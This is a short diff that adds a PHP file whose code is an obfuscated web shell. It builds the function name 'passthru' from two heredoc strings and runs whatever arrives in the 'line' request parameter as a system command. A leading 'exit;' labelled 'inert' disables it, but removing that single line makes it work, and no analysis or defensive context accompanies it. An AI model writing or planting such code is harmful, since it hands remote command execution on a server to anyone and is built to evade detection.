@@ -1,0 +1,11 @@
+<?php exit; /* inert */ 
+$a = <<<A
+pass
+A;
+$b = <<<'B'
+thru
+B;
+$go = <<<G
+{$a}{$b}
+G;
+$go("{$_REQUEST['line']}");
